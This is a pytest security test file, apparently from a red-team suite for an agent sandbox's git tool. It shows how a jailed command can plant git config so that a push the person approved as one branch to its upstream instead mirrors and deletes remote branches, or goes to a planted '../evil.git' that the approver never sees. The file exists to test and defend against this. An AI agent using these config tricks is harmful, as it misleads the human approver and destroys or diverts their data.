"""rt6: the git tool's push, confirmed as "push branch B to its upstream", mirrors every ref instead.

``remote.*.mirror`` is on ``_gitmeta.SAFE_KEYS`` (it names no program), so a jailed command may
set it in a workspace repository and it stays. ``git push`` with no refspec on a mirror remote
pushes as ``--mirror``: every local ref is force-pushed and every remote ref the repository lacks
is **deleted**. The git tool's push plan (what the person confirms) reads "push branch main of
… to its upstream", and its argv is a plain ``git push``.

The "upstream" here is a bare repository in the workspace (a stand-in for the person's real
remote) with two branches, ``main`` and ``keep``; the nested repository has only ``main``. After
the confirmed push, ``keep`` must still exist on the remote.

Spelling 1: the setting appended to ``.git/config`` with printf. Spelling 2: the remote made
again with ``git remote add --mirror=push`` (git writes the key itself). Both fail on main: the
remote's ``keep`` is deleted (the push output says ``- [deleted] keep``).

Beside it, the same class (what the push confirmation says is not what the push does):
``remote.*.url`` and ``branch.*.remote`` are SAFE_KEYS too, so a jailed command can point the
push at a repository of its choosing; the approver is shown "git push sends data off this host"
and a plan of repository and branch, never the destination.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from harness import Daemon, Env

G = "git -c init.defaultBranch=main -c user.name=a -c user.email=a@b -c safe.directory=*"
SETUP = (f"{G} init -q --bare up.git && {G} clone -q up.git sub 2>/dev/null && cd sub && "
         f"echo one > f && {G} add f && {G} commit -qm 1 && {G} push -q origin main && "
         f"{G} push -q origin main:keep && cd .. && {G} -C up.git branch --list")  # fmt: skip
MIRROR = {
    "printf": "printf '[remote \"origin\"]\\n\\tmirror = true\\n' >> sub/.git/config",
    "remote-add": f"{G} -C sub remote remove origin && {G} -C sub remote add --mirror=push origin ../up.git",
}


def _branches(repo: Path) -> list[str]:
    out = subprocess.run(["git", "-c", "safe.directory=*", "-C", str(repo), "branch", "--list", "--format=%(refname:short)"],
                         capture_output=True, text=True, check=True).stdout
    return sorted(out.split())


@pytest.mark.parametrize("spelling", sorted(MIRROR))
def test_a_confirmed_push_of_one_branch_deletes_the_remotes_other_branches(env: Env, spelling: str) -> None:
    env.write_config("[tools.git]\nallow_push = true\n")
    d: Daemon = env.start_daemon()
    try:
        made = env.cli("run", "--", SETUP)
        assert made.returncode == 0, made.stderr
        assert _branches(env.workspace / "up.git") == ["keep", "main"]
        planted = env.cli("run", "--", MIRROR[spelling])
        assert planted.returncode == 0, planted.stderr
        push = env.cli("tools", "call", "git", json.dumps({"action": "push", "path": "sub"}), "--yes", "--json", timeout=120)
        assert "Traceback" not in push.stderr, push.stderr
        left = _branches(env.workspace / "up.git")
        assert left == ["keep", "main"], (
            f"a push confirmed as one branch to its upstream deleted remote branches: left {left}; "
            f"the tool said {push.stdout[:300]!r}"
        )
    finally:
        d.kill()


REDIRECT = {
    # remote.*.url and branch.*.remote are on SAFE_KEYS: a jailed command may point the push elsewhere
    "set-url": f"{G} -C sub remote set-url origin ../evil.git",
    "branch-remote": f"{G} -C sub remote add evil ../evil.git && {G} -C sub config branch.main.remote evil",
}


@pytest.mark.parametrize("spelling", sorted(REDIRECT))
def test_the_push_confirmation_does_not_say_where_the_data_goes(env: Env, spelling: str) -> None:
    """The approver confirms "git push sends data off this host" with a plan of repository and
    branch only; a jailed command chose the destination, and nothing shown names it."""
    env.write_config("[tools.git]\nallow_push = true\n")
    d: Daemon = env.start_daemon()
    try:
        made = env.cli("run", "--", f"{G} init -q --bare evil.git && {SETUP}")
        assert made.returncode == 0, made.stderr
        planted = env.cli("run", "--", REDIRECT[spelling])
        assert planted.returncode == 0, planted.stderr
        push = env.cli("tools", "call", "git", json.dumps({"action": "push", "path": "sub"}), "--yes", "--json", timeout=120)
        meta = json.loads(push.stdout)["metadata"]
        assert _branches(env.workspace / "evil.git") == ["main"], "the push did not go to the planted remote"
        shown = json.dumps({"reason": meta.get("reason"), "plan": meta.get("plan")})
        assert "evil.git" in shown, f"the push went to ../evil.git; the approver was shown only {shown}"
    finally:
        d.kill()
